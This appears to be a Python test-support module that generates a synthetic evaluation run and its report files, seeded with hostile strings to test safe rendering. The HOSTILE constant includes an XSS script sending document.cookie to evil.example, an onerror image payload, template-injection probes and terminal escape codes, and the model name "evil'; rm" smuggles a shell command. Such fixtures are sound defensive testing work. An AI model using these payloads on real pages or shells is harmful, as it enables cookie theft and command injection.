"""A synthetic run that has everything a report can show, hostile text included."""

from dataclasses import asdict
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl

from profiles.load import load_profile
from tasks.comparison.equivalence import validate_run
from tasks.files import publish_json, publish_parquet, read_json
from tasks.generation.oom_ladder import RungChange
from tasks.node.telemetry import TELEMETRY_SCHEMA
from tasks.node.telemetry_summary import summarize_telemetry
from tasks.plan.run_config import RunConfig
from tasks.records import RunPaths, shard_indices
from tasks.results.metrics import run_metrics
from tasks.results.scored_rollouts import load_metric_rows
from tests.support.synthetic import write_run

HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script><img src=https://evil.example/x.png "
    "onerror=alert(1)>\"'`${7*7}{{7*7}}</pre></details></body>\x1b[31m\x1b]0;owned\x07\u202e"
    + "https://evil.example/"
    + "A" * 200_000
)
STARTED = datetime(2026, 10, 1, 9, 0, tzinfo=UTC)


def write_report_run(root: Path, **arguments: Any) -> RunPaths:
    """A run of two sessions on two GPUs with an OOM rung and a restart, compared and benchmarked."""
    baseline = write_run(root.parent / "baseline", truncated=0.1, error_rows=0.02, **arguments)
    run = write_run(root, divergence=0.2, variant=1, truncated=0.1, error_rows=0.02, **arguments)
    for paths in (baseline, run):
        for index in shard_indices(paths.root / "rollouts"):
            _make_hostile(paths, index)
    _write_telemetry(run)
    validate_run(run.root, baseline.root)
    _write_config(run)
    _write_report(run)
    _write_bench(run)
    publish_json(
        {
            "worst": "warn",
            "checks": [
                {"name": "disk", "status": "warn", "value": HOSTILE[:80], "limit": "1 GiB", "remedy": "", "gpu": 0}
            ],
        },
        run.preflight,
    )
    return run


def _make_hostile(run: RunPaths, index: int) -> None:
    rollouts = pl.read_parquet(run.rollouts(index))
    message = pl.struct(role=pl.lit("user"), content=pl.lit(HOSTILE))
    failed = pl.col("error").is_not_null()
    publish_parquet(
        rollouts.with_columns(
            prompt=pl.concat_list(message),
            completion=pl.when(~failed).then(pl.lit(HOSTILE)),
            error=pl.when(failed).then(pl.lit(HOSTILE)),
            ground_truth=pl.lit(HOSTILE),
        ),
        run.rollouts(index),
    )
    scores = pl.read_parquet(run.scores(index))
    publish_parquet(scores.with_columns(extracted_answer=pl.lit(HOSTILE)), run.scores(index))


def _write_telemetry(run: RunPaths) -> None:
    rows = []
    for session in (0, 1):
        first = STARTED + timedelta(hours=session)
        tokens = 0
        for second in range(240):
            moment = {"time": first + timedelta(seconds=second), "session": first}
            busy = second > 60
            tokens = 0 if second == 150 else tokens + 900 * busy
            rows += [
                {
                    **moment,
                    "source": "gpu",
                    "index": gpu,
                    "utilization_percent": 93.0 + second % 5 if busy else 0.0,
                    "memory_used": (70 << 30) if busy else (5 << 30),
                    "temperature_c": 66,
                    "power_w": 610.0,
                }
                for gpu in (0, 1)
            ]
            rows.append(
                {
                    **moment,
                    "source": "replica",
                    "index": 0,
                    "running": 64 * busy,
                    "waiting": 0,
                    "kv_cache_usage": 0.4,
                    "preemptions": 0,
                    "prefix_cache_hits": 10,
                    "prefix_cache_queries": 20,
                    "generation_tokens": tokens,
                }
            )
    publish_parquet(pl.DataFrame(rows, schema=TELEMETRY_SCHEMA), run.telemetry)


def _write_config(run: RunPaths) -> None:
    config = RunConfig.model_validate(
        {"profile": "h100-sxm", "dataset": {"path": "openai/gsm8k"}, "model": "evil'; rm"}
    )
    publish_json(
        {
            **read_json(run.config),
            "config": config.model_dump(mode="json"),
            "profile": {"name": "h100-sxm"},
            "model": {"name": "evil'; rm"},
        },
        run.config,
    )


def _write_report(run: RunPaths) -> None:
    rows = load_metric_rows(run, repetition=True)
    metrics = run_metrics(rows)
    change = RungChange(
        at=(STARTED + timedelta(seconds=120)).isoformat(),
        from_rung=0,
        to_rung=1,
        kind="device",
        phase="run",
        reason=HOSTILE[:200],
        settings={},
    )
    profile = load_profile("cpu-demo")
    publish_json(
        {
            "run_id": run.run_id,
            "profile": "h100-sxm",
            "model": HOSTILE[:60],
            "dataset": HOSTILE[:60],
            "num_questions": metrics.overall.questions,
            "num_rollouts": rows.height,
            "num_errors": metrics.overall.errors,
            "errors": [{"error": HOSTILE, "count": metrics.overall.errors}],
            "gold_suspects": 2,
            "mean_reward": metrics.overall.mean_reward,
            "mean_reward_without_suspects": 0.4567,
            "overall": asdict(metrics.overall),
            "arms": [asdict(arm) for arm in metrics.arms],
            "contrasts": [asdict(contrast) for contrast in metrics.contrasts],
            "generation": {
                "seconds": 360.0,
                "start_seconds": 121.5,
                "tokens": 300_000,
                "tokens_per_second": 833.3,
                "restarts": 1,
                "sessions": [],
            },
            "telemetry": summarize_telemetry(run.telemetry, profile, rollouts=rows.height, correct=10).to_json(),
            "oom_ladder": [asdict(change)],
            "rollouts_per_rung": {"0": 10, "1": rows.height - 10},
            "equivalence": None,
        },
        run.report,
    )


def _write_bench(run: RunPaths) -> None:
    def spread(value: float) -> dict[str, float]:
        return {"mean": value, "low": value * 0.9, "high": value * 1.1}

    standings = [
        {
            "contestant": name,
            "seconds": spread(seconds),
            "start_seconds": spread(30.0),
            "sequences_per_s": spread(400 / seconds),
            "tokens_per_s": spread(90_000 / seconds),
            "speedup": None if name == "pipeline" else spread(seconds / 40),
        }
        for name, seconds in (("baseline", 240.0), ("script", 90.0), ("pipeline", 40.0))
    ]
    publish_json(
        {
            "profile": "h100-sxm",
            "model": "evil'; rm",
            "questions": 50,
            "rollouts": 400,
            "standings": standings,
            "measurements": [{"repeat": repeat} for repeat in range(3)],
            "equivalence": {"pipeline": {"verdict": "numerical"}},
        },
        run.root.parent / "bench-h100-20261001" / "bench.json",
    )
